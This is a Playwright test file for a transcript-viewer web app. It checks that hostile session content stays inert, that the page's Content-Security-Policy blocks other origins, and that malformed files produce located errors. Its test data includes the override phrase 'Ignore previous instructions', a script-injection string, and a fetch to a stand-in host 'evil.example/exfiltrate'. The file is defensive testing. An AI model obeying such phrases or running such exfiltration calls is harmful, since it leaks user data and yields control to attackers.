import { expect, test } from '@playwright/test';
import { dropFiles, fromText } from './support/drop';
import { hostileCompactionLog, hostileTranscript } from './support/hostile-session';
import { openPanel } from './support/session-view';

test('hostile transcript text renders inert in every view', async ({ page, baseURL }) => {
  const dialogs: string[] = [];
  const foreign: string[] = [];
  const errors: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('request', (r) => {
    if (!r.url().startsWith(baseURL!) && !r.url().startsWith('data:') && !r.url().startsWith('blob:')) foreign.push(r.url());
  });
  page.on('pageerror', (e) => errors.push(e.message));
  await page.goto('/');
  await dropFiles(page, [fromText('hostile.json', hostileTranscript()), fromText('hostile-log.jsonl', hostileCompactionLog())]);
  const stepper = page.getByRole('toolbar', { name: 'Step through calls' });
  await expect(stepper).toBeVisible();
  const scriptsBefore = await page.locator('script').count();

  // Step to the last call so the summary and every payload are on screen, then open every panel.
  await page.getByRole('slider', { name: 'Call' }).focus();
  await page.keyboard.press('End');
  await expect(page.getByText('Ignore previous instructions').first()).toBeVisible();
  const tabs = page.getByRole('tablist', { name: 'Panels' }).getByRole('tab');
  const names = await tabs.allTextContents();
  expect(names.length).toBeGreaterThanOrEqual(8);
  for (const name of names) {
    await tabs.filter({ hasText: name }).first().click();
    const region = page.getByRole('region', { name: name.trim(), exact: true });
    await expect(region).toBeVisible();
    await expect(region.getByText(/could not be shown/)).toHaveCount(0);
  }
  await page.getByRole('tab', { name: /All items/ }).click();
  await expect(page.getByText('<script>window.__pwned = "script"</script>').first()).toBeVisible();

  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(await page.locator('script').count()).toBe(scriptsBefore);
  expect(await page.locator('main img, main iframe, main a[href^="javascript:"]').count()).toBe(0);
  await expect(page.locator('body')).toBeVisible();
  expect(dialogs).toEqual([]);
  expect(foreign).toEqual([]);
  expect(errors).toEqual([]);
});

test('the page ships a Content-Security-Policy that refuses other origins', async ({ page }) => {
  await page.goto('/');
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toContain("connect-src 'self';");
  expect(policy).toContain("script-src 'self';");
  const violations = page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true });
        void fetch('https://evil.example/exfiltrate').catch(() => undefined);
      }),
  );
  expect(await violations).toBe('connect-src');
});

test('a re-run endpoint the page policy does not list is refused before any request leaves, and the panel offers to allow it', async ({ page }) => {
  const { startOpenAIServer } = await import('./support/openai-server');
  const { DEMOS } = await import('../app/demos');
  const server = await startOpenAIServer({ mode: 'ok' });
  try {
    await page.goto('/');
    await page.getByRole('button', { name: DEMOS[0]!.title }).click();
    await openPanel(page, 'Re-run');
    const panel = page.getByRole('region', { name: 'Re-run', exact: true });
    await panel.getByLabel('Base URL', { exact: true }).fill(server.url);
    await panel.getByLabel('Model', { exact: true }).fill('m');
    await expect(panel.getByRole('note').filter({ hasText: 'Content-Security-Policy' })).toBeVisible();
    await expect(panel.getByRole('button', { name: 'Allow this endpoint and reload' })).toBeVisible();
    // The default trigger (80 % of the window) never fires on this short demo: a threshold that does.
    await panel.getByRole('radiogroup', { name: 'Trigger kind' }).getByText('Token threshold').click();
    await panel.getByLabel('Threshold', { exact: true }).fill('1500');
    await panel.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(page.getByRole('region', { name: 'Re-run result' }).getByRole('list', { name: 'Fallbacks' })).toContainText('[Earlier messages truncated]', { timeout: 30_000 });
    // The worker obeys the page's connect-src: the server never saw the completion request.
    expect(server.requests.filter((r) => r.method === 'POST')).toEqual([]);
  } finally {
    await server.close();
  }
});

test('broken and hostile files each get a located error while the open session stays and the tab keeps working', async ({ page }) => {
  const { dropFiles, fromDisk } = await import('./support/drop');
  const { join } = await import('node:path');
  await page.goto('/');
  await dropFiles(page, fromDisk(join(import.meta.dirname, '..', 'src', 'formats', '__fixtures__', 'openai-chat-course.json')));
  const tabs = page.getByRole('navigation', { name: 'Open sessions' }).getByRole('tab');
  await expect(tabs).toHaveCount(1);
  const b64 = (bytes: number[]) => Buffer.from(bytes).toString('base64');
  const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('{"messages":[{"role":"user","content":"from utf-16"}]}', 'utf16le')]);
  await dropFiles(page, [
    { name: 'empty.json', base64: '' },
    { name: 'archive.json', base64: b64([0x50, 0x4b, 0x03, 0x04, 0, 0, 0, 0]) },
    { name: 'blob.jsonl', base64: b64([0, 1, 2, 3, 0, 0, 255, 254, 0]) },
    { name: 'deep.json', base64: Buffer.from(`${'['.repeat(100_000)}${']'.repeat(100_000)}`).toString('base64') },
    { name: 'cut.json', base64: Buffer.from('{\n "messages": [\n  {"role": "user"').toString('base64') },
    { name: 'utf16.json', base64: utf16.toString('base64') },
  ]);
  const alert = page.getByRole('alert').first();
  await expect(alert).toContainText('empty.json');
  await expect(alert).toContainText('zip archive');
  await expect(alert).toContainText('binary data');
  await expect(alert).toContainText('deep.json');
  await expect(alert.getByText('cut.json · line 3', { exact: true })).toBeVisible();
  // The UTF-16 file loaded beside the session that was already open.
  await expect(tabs).toHaveCount(2);
  await tabs.first().click();
  await expect(page.getByRole('toolbar', { name: 'Step through calls' })).toBeVisible();
  await page.keyboard.press('?');
  await expect(page.getByRole('dialog', { name: 'Keyboard shortcuts' })).toBeVisible();
});

test('a drop whose opening code cannot be fetched says so in a notice instead of doing nothing', async ({ page }) => {
  // The open path's first step (the corpus check) lives in a chunk of its own: without it, nothing can open.
  await page.route(/corpus-open-[\w-]+\.js$/, (route) => route.abort());
  await page.goto('/');
  await dropFiles(page, [fromText('a.json', JSON.stringify([{ role: 'user', content: 'hi' }]))]);
  await expect(page.getByText(/a\.json could not be opened: .*Try again, or reload the page\./)).toBeVisible();
  // The page is still the app: the demos still open.
  await expect(page.getByRole('region', { name: 'Welcome' })).toBeVisible();
});

test('a demo whose opening code cannot be fetched says so too', async ({ page }) => {
  await page.route(/corpus-open-[\w-]+\.js$/, (route) => route.abort());
  await page.goto('/');
  await page.getByRole('list', { name: 'Demos' }).getByRole('button').first().click();
  await expect(page.getByText(/\.\w+ could not be opened: .*Try again, or reload the page\./)).toBeVisible();
  // The load it began has ended: no progress bar stays over the notice.
  await expect(page.getByRole('status').filter({ hasText: 'Opening…' })).toHaveCount(0);
});
